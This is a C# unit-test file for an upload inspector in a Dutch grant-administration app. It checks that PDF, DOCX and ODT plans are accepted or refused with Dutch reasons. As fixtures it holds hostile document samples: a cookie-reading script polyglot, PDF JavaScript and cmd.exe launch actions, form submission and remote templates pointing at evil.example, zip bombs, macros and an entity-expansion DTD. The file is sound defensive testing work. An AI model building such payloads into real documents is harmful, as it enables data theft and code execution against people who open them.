using System.IO.Compression;
using System.Text;
using CsCheck;
using GrantAdmin.Tests.Support;
using GrantAdmin.Web.Features.Applications;
using static GrantAdmin.Tests.Features.Applications.HostilePlans;
using static GrantAdmin.Tests.Support.PlanDocuments;

namespace GrantAdmin.Tests.Features.Applications;

/// <summary>An upload is opened as what it claims to be, within limits, and refused with a Dutch reason when hostile or broken.</summary>
public sealed class PlanInspectionTests
{
    private static readonly PlanLimits Limits = new(MaxEntries: 2_000, MaxUncompressedBytes: 100L * 1024 * 1024);

    private static PlanCheck Inspect(byte[] content) => PlanInspection.Inspect(content, Limits);

    private static void Refused(string expected, byte[] content)
    {
        var check = Inspect(content);
        Assert.Null(check.Format);
        Assert.Equal(expected, check.Refusal);
    }

    // ---- accepted ----

    [Fact]
    public void TestAndDemoPdf_Accepted() => Assert.Equal(PlanFormat.Pdf, Inspect(TestData.PdfPlan().Content).Format);

    [Fact]
    public void Docx_Accepted() => Assert.Equal(PlanFormat.Docx, Inspect(Docx()).Format);

    [Fact]
    public void Odt_Accepted() => Assert.Equal(PlanFormat.Odt, Inspect(Odt()).Format);

    [Fact]
    public void PdfWithLinkAndOpenToPage_Accepted() =>
        Assert.Equal(PlanFormat.Pdf, Inspect(Pdf("/OpenAction [3 0 R /XYZ null null 0]", "/Annots [6 0 R]", "",
            "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.rijksoverheid.nl) >> >>")).Format);

    [Fact]
    public void DocxWithHyperlink_Accepted()
    {
        var entries = DocxEntries();
        entries.Add(Stored("word/_rels/document.xml.rels", """
            <?xml version="1.0" encoding="UTF-8"?>
            <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
              <Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.vng.nl" TargetMode="External"/>
            </Relationships>
            """));
        Assert.Equal(PlanFormat.Docx, Inspect(RawZip(entries)).Format);
    }

    // ---- not a plan at all ----

    [Fact]
    public void OdsSpreadsheet_NotAPlan() => Refused(PlanInspection.NotAPlan, Ods());

    [Fact]
    public void TextFileWhateverItsName_NotAPlan() => Refused(PlanInspection.NotAPlan, Encoding.UTF8.GetBytes("Dit is geen PDF, ook al heet het plan.pdf"));

    [Fact]
    public void ZipThatIsNoDocument_NotAPlan() => Refused(PlanInspection.NotAPlan, Zip(new Entry("begroting.txt", "40.000 + 10.000")));

    [Fact]
    public void EmptyBytes_NotAPlan() => Refused(PlanInspection.NotAPlan, []);

    [Fact]
    public void PdfMagicNotAtStart_NotAPlan() => Refused(PlanInspection.NotAPlan, " %PDF-1.7"u8.ToArray());

    [Fact]
    public void WorkbookWithContentTypes_NotAPlan()
    {
        var entries = DocxEntries();
        entries[0] = Stored("[Content_Types].xml", Encoding.UTF8.GetString(entries[0].Data)
            .Replace("wordprocessingml.document.main+xml", "spreadsheetml.sheet.main+xml", StringComparison.Ordinal));
        Refused(PlanInspection.NotAPlan, RawZip(entries));
    }

    // ---- PDF ----

    [Theory]
    [InlineData(5)]
    [InlineData(40)]
    [InlineData(400)]
    public void TruncatedPdf_RefusedAsDamaged(int length) => Refused(PdfPlan.Damaged, TestData.PdfPlan().Content[..length]);

    [Fact]
    public void HeaderOnlyPdf_RefusedAsDamaged() => Refused(PdfPlan.Damaged, "%PDF-1.7\n%âãÏÓ\n%%EOF\n"u8.ToArray());

    [Fact]
    public void PdfHeaderFollowedByHtml_RefusedAsPolyglot() =>
        Refused(PdfPlan.Polyglot, "%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n"u8.ToArray());

    [Fact]
    public void PdfWithZipAppended_RefusedAsPolyglot() =>
        Refused(PdfPlan.Polyglot, RawZip(DocxEntries(), prefix: Pdf()));

    [Fact]
    public void PdfZipPolyglotEndingInEofComment_RefusedAsPolyglot() =>
        Refused(PdfPlan.Polyglot, RawZip([Stored("payload.html", "<script>alert(1)</script>")], prefix: Pdf(), comment: "\n%%EOF\n"));

    [Fact]
    public void PdfWithTrailingBytesAfterEof_RefusedAsDamaged() =>
        Refused(PdfPlan.Damaged, [.. Pdf(), .. Encoding.ASCII.GetBytes("\nMZ" + new string('x', 2000))]);

    [Fact]
    public void PdfWithJavaScriptOnOpen_Refused() =>
        Refused(PdfPlan.ActiveContent("JavaScript"), Pdf("/OpenAction 6 0 R", "", "", "<< /Type /Action /S /JavaScript /JS (app.alert('x')) >>"));

    [Fact]
    public void PdfWithDocumentLevelJavaScript_Refused() =>
        Refused(PdfPlan.ActiveContent("JavaScript"), Pdf("/Names << /JavaScript 6 0 R >>", "", "", "<< /Names [(a) 7 0 R] >>", "<< /S /JavaScript /JS (this.print()) >>"));

    [Fact]
    public void PdfWithHexEscapedJavaScriptName_Refused() =>
        Refused(PdfPlan.ActiveContent("JavaScript"), Pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"));

    [Fact]
    public void PdfWithJavaScriptDeflatedInAnObjectStream_Refused()
    {
        var pdf = PdfWithCompressedObject("<< /S /JavaScript /JS (app.alert(1)) >>");
        Assert.DoesNotContain("JavaScript", Encoding.Latin1.GetString(pdf));
        Refused(PdfPlan.ActiveContent("JavaScript"), pdf);
        Assert.Equal(PlanFormat.Pdf, Inspect(PdfWithCompressedObject("<< /S /GoTo /D [3 0 R /Fit] >>")).Format);
    }

    [Fact]
    public void PdfOpeningAWebsiteByItself_Refused() =>
        Refused(PdfPlan.ActiveContent("een automatische actie bij het openen"), Pdf("/OpenAction << /S /URI /URI (https://evil.example) >>"));

    [Fact]
    public void PdfWithLaunchAction_Refused() =>
        Refused(PdfPlan.ActiveContent("het starten van een programma"), Pdf("", "/Annots [6 0 R]", "",
            "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /Launch /F (cmd.exe) >> >>"));

    [Fact]
    public void PdfWithPageOpenAction_Refused() =>
        Refused(PdfPlan.ActiveContent("automatische acties"), Pdf("", "/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"));

    [Fact]
    public void PdfWithEmbeddedFile_Refused() =>
        Refused(PdfPlan.ActiveContent("ingesloten bestanden"), Pdf("/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>", "", "",
            "<< /Type /Filespec /F (a.exe) >>"));

    [Fact]
    public void PdfWithSubmitForm_Refused() =>
        Refused(PdfPlan.ActiveContent("een formulier dat gegevens verstuurt"), Pdf("", "/Annots [6 0 R]", "",
            "<< /Type /Annot /Subtype /Widget /Rect [0 0 100 20] /A << /S /SubmitForm /F (https://evil.example) >> >>"));

    [Fact]
    public void EncryptedPdf_RefusedAsEncrypted()
    {
        var pdf = Encoding.Latin1.GetString(Pdf());
        var encrypted = pdf.Replace("/Root 1 0 R >>", "/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >> /ID [<01><01>] >>", StringComparison.Ordinal);
        Refused(PdfPlan.Encrypted, Encoding.Latin1.GetBytes(encrypted));
    }

    [Fact]
    public void PdfNested200000Deep_RefusedAsDamagedWithoutCrashing() =>
        Refused(PdfPlan.Damaged, Pdf("/X " + new string('[', 200_000) + new string(']', 200_000)));

    [Fact]
    public void AnyBytesAfterAPdfHeader_NeverThrowAndNeverAccepted() =>
        Gen.Byte.Array[0, 400].Sample(tail => Assert.Null(Inspect([.. "%PDF-1.7\n"u8, .. tail]).Format));

    [Fact]
    public void PdfCutAnywhere_NeverAccepted()
    {
        var pdf = Pdf();
        Gen.Int[1, pdf.Length - 8].Sample(length => Assert.Null(Inspect(pdf[..length]).Format));
    }

    // ---- DOCX / ODT packages ----

    [Fact]
    public void DocxZipBombOf10GiB_RefusedBeforeInflatingIt()
    {
        var entries = DocxEntries();
        // Declares a modest 4 GB but inflates to 10 GiB: the counter stops it, whatever the header says.
        entries.Add(new RawEntry("word/media/image1.png", DeflatedZeros(10), Method: 8, DeclaredLength: uint.MaxValue - 1));
        var bomb = RawZip(entries);

        var started = System.Diagnostics.Stopwatch.StartNew();
        Refused(PackagePlan.TooLarge(Limits.MaxUncompressedBytes), bomb);
        Assert.True(started.Elapsed < TimeSpan.FromSeconds(20), $"took {started.Elapsed}");
    }

    [Fact]
    public void DocxBombDeclaringASmallSize_NeverAccepted()
    {
        var entries = DocxEntries();
        entries.Add(new RawEntry("word/media/image1.png", DeflatedZeros(1), Method: 8, DeclaredLength: 1000));
        Assert.Null(Inspect(RawZip(entries)).Format);
    }

    [Fact]
    public void DocxWithMacroProjectStoredAsDocx_RefusedForMacros()
    {
        var entries = DocxEntries();
        entries.Add(Stored("word/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]));
        Refused(PackagePlan.Macros, RawZip(entries));
    }

    [Fact]
    public void MacroEnabledMainDocument_RefusedForMacros()
    {
        var entries = DocxEntries();
        entries[0] = Stored("[Content_Types].xml", Encoding.UTF8.GetString(entries[0].Data)
            .Replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal));
        Refused(PackagePlan.Macros, RawZip(entries));
    }

    [Fact]
    public void DocxWith150000Entries_RefusedWithoutReadingThem()
    {
        var entries = DocxEntries();
        entries.AddRange(Enumerable.Range(0, 150_000).Select(i => new RawEntry($"word/media/{i}", [])));
        Refused(PackagePlan.TooManyEntries(Limits.MaxEntries), RawZip(entries));
    }

    [Fact]
    public void DocxWith150000EntriesClaimingThree_Refused()
    {
        var entries = DocxEntries();
        entries.AddRange(Enumerable.Range(0, 150_000).Select(i => new RawEntry($"word/media/{i}", [])));
        Refused(PackagePlan.TooManyEntries(Limits.MaxEntries), RawZip(entries, claimedEntries: 3));
    }

    [Fact]
    public void DocxWithRemoteTemplate_RefusedAsExternal()
    {
        var entries = DocxEntries();
        entries.Add(Stored("word/_rels/settings.xml.rels", """
            <?xml version="1.0" encoding="UTF-8"?>
            <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
              <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>
            </Relationships>
            """));
        Refused(PackagePlan.External, RawZip(entries));
    }

    [Fact]
    public void EncryptedEntry_RefusedAsEncrypted()
    {
        var entries = DocxEntries();
        entries[^1] = entries[^1] with { Flags = 1 };
        Refused(PackagePlan.Encrypted, RawZip(entries));
    }

    [Fact]
    public void DuplicateEntryNames_Refused()
    {
        var entries = DocxEntries();
        entries.Add(Stored("WORD/document.xml", "<w:document xmlns:w=\"urn:x\"/>"));
        Refused(PackagePlan.DuplicateNames, RawZip(entries));
    }

    [Fact]
    public void MalformedDocumentXml_RefusedNamingThePart()
    {
        var entries = DocxEntries();
        entries[^1] = Stored("word/document.xml", "<w:document xmlns:w=\"urn:x\"><w:body>");
        Refused(PackagePlan.BrokenPart("word/document.xml"), RawZip(entries));
    }

    [Fact]
    public void DocxWithDtd_RefusedNamingThePart()
    {
        var entries = DocxEntries();
        entries[^1] = Stored("word/document.xml", "<!DOCTYPE d [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]><d>&b;</d>");
        Refused(PackagePlan.BrokenPart("word/document.xml"), RawZip(entries));
    }

    [Fact]
    public void DocxWithoutItsMainDocument_RefusedNamingThePart() =>
        Refused(PackagePlan.BrokenPart("word/document.xml"), RawZip(DocxEntries().Where(e => e.Name != "word/document.xml").ToList()));

    [Fact]
    public void TruncatedDocx_RefusedAsDamaged()
    {
        var docx = Docx();
        Refused(PackagePlan.Damaged, docx[..(docx.Length / 2)]);
    }

    [Fact]
    public void OdtWithBasicMacros_RefusedForMacros() =>
        Refused(PackagePlan.Macros, AddToZip(Odt(), new Entry("Basic/Standard/Module1.xml", "<script:module xmlns:script=\"http://openoffice.org/2000/script\"/>")));

    [Fact]
    public void OdtWithEventListener_RefusedForMacros() =>
        Refused(PackagePlan.Macros, Odt("""<office:event-listeners xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></office:event-listeners>"""));

    [Fact]
    public void OdtWithLinkedRemoteImage_RefusedAsExternal() =>
        Refused(PackagePlan.External, Odt("""<draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><draw:image xlink:href="https://evil.example/pixel.png"/></draw:frame>"""));

    [Fact]
    public void OdtWithHugeCompressedMimetype_RefusedWithoutReadingItWhole()
    {
        // 32 MB of 'a' deflates to a few tens of kB: a small upload must not make the server hold all of it.
        var bomb = Zip(new Entry("mimetype", new string('a', 32 * 1024 * 1024)));
        var before = GC.GetAllocatedBytesForCurrentThread();
        Refused(PlanInspection.NotAPlan, bomb);
        Assert.True(GC.GetAllocatedBytesForCurrentThread() - before < 8 * 1024 * 1024, "the mimetype entry was read whole");
    }

    [Fact]
    public void AnyBytesStartingLikeAZip_NeverThrowAndNeverAccepted() =>
        Gen.Byte.Array[0, 400].Sample(tail => Assert.Null(Inspect([.. "PK\u0003\u0004"u8, .. tail]).Format));

    [Fact]
    public void ValidDocumentsWithBytesChanged_NeverThrow()
    {
        byte[][] valid = [Docx(), Odt(), Pdf(), RawZip(DocxEntries())];
        Gen.Select(Gen.Int[0, valid.Length - 1], Gen.Select(Gen.Int[0, int.MaxValue], Gen.Byte).Array[1, 8]).Sample((which, changes) =>
        {
            var content = (byte[])valid[which].Clone();
            foreach (var (at, value) in changes) content[at % content.Length] = value;
            Inspect(content);
        }, iter: 3_000);
    }

    [Fact]
    public void TinyZipClaimingZip64_RefusedAsDamaged()
    {
        byte[] locator = [.. "PK\u0006\u0007"u8, 0, 0, 0, 0, .. BitConverter.GetBytes(1000UL), 1, 0, 0, 0];
        byte[] end = [.. "PK\u0005\u0006"u8, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, .. BitConverter.GetBytes(uint.MaxValue), .. BitConverter.GetBytes(uint.MaxValue), 0, 0];
        Refused(PackagePlan.Damaged, [.. "PK\u0003\u0004"u8, .. locator, .. end]);
        Refused(PdfPlan.Damaged, [.. "%PDF-"u8, .. locator, .. end]);
    }

    [Fact]
    public void ContentTypesNamingAPartTwice_RefusedNamingThePart()
    {
        var entries = DocxEntries();
        entries[0] = Stored("[Content_Types].xml", Encoding.UTF8.GetString(entries[0].Data)
            .Replace("</Types>", "<Override PartName=\"/word/document.xml\" ContentType=\"application/xml\"/></Types>", StringComparison.Ordinal));
        Refused(PackagePlan.BrokenPart("[Content_Types].xml"), RawZip(entries));
    }

    private static byte[] AddToZip(byte[] zip, Entry entry)
    {
        using var buffer = new MemoryStream();
        buffer.Write(zip);
        using (var archive = new ZipArchive(buffer, ZipArchiveMode.Update, leaveOpen: true))
        using (var writer = new StreamWriter(archive.CreateEntry(entry.Name).Open()))
            writer.Write(entry.Text);
        return buffer.ToArray();
    }
}
